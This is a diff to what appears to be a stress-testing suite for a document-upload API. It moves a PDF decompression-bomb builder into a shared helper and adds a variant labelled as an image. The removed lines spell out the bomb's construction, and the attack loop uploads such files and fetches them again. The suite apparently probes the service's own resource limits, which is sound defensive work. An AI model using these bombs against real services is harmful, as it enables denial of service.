@@ -1,6 +1,6 @@
 import { connect } from 'node:net';
 import { setTimeout as pause } from 'node:timers/promises';
-import { deflateSync } from 'node:zlib';
+import { drawingPdf } from '#scripts/inputs/drawing-pdf.ts';
 import { flood, senderFrom, type Sender, type Statuses } from '#scripts/siege/send.ts';
 import type { Target } from '#scripts/siege/target.ts';
 
@@ -60,16 +60,26 @@ async function upload(
   return acked.status === 201 ? (JSON.parse(acked.body) as { document: { id: string } }).document.id : null;
 }
 
-/** A PDF of 1 MB whose page unpacks to a gigabyte of lines to draw. */
-function pdfBomb(): Buffer {
-  const lines = deflateSync(Buffer.alloc(400 * 2 ** 20, '0 0 m 600 800 l S\n'), { level: 9 });
-  const head = `%PDF-1.4
-1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj
-2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
-3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R>>endobj
-4 0 obj<</Length ${lines.length}/Filter/FlateDecode>>stream
-`;
-  return Buffer.concat([Buffer.from(head), lines, Buffer.from('\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n')]);
+/** Uploads such PDFs and reads their documents, two at once. */
+function unpackingPdfs(name: string, disguise: string): Attack {
+  return {
+    name,
+    run: (target, signal, statuses) =>
+      withSender(statuses, async (sender) => {
+        const bytes = drawingPdf(400, disguise);
+        const { api, workflowKey, key } = target;
+        await flood(2, signal, async () => {
+          const id = await upload(sender, { api, key: workflowKey }, { bytes, contentType: 'application/pdf' });
+          if (id === null) return pause(200);
+          await sender.send({
+            method: 'GET',
+            url: `${api}/api/service/documents/${id}`,
+            headers: { 'x-api-key': key },
+          });
+          return pause(1_000);
+        });
+      }),
+  };
 }
 
 /** 90,000 keys in a megabyte. */
@@ -200,24 +210,8 @@ export const attacks: readonly Attack[] = [
         return flood(4, signal, () => send({ ...tool('validate_workflow', { graph }, key), url: `${mcp}/mcp` }));
       }),
   },
-  {
-    name: 'PDFs of 1 MB that unpack to 400 MB',
-    run: (target, signal, statuses) =>
-      withSender(statuses, async (sender) => {
-        const bytes = pdfBomb();
-        const { api, workflowKey, key } = target;
-        await flood(2, signal, async () => {
-          const id = await upload(sender, { api, key: workflowKey }, { bytes, contentType: 'application/pdf' });
-          if (id === null) return pause(200);
-          await sender.send({
-            method: 'GET',
-            url: `${api}/api/service/documents/${id}`,
-            headers: { 'x-api-key': key },
-          });
-          return pause(1_000);
-        });
-      }),
-  },
+  unpackingPdfs('PDFs of 1 MB that unpack to 400 MB', ''),
+  unpackingPdfs('PDFs of 1 MB that unpack to 400 MB, under the name of a picture', '/Subtype/Image'),
   {
     name: 'uploads for a workflow, as fast as the limits allow',
     run: ({ api, workflowKey }, signal, statuses) =>
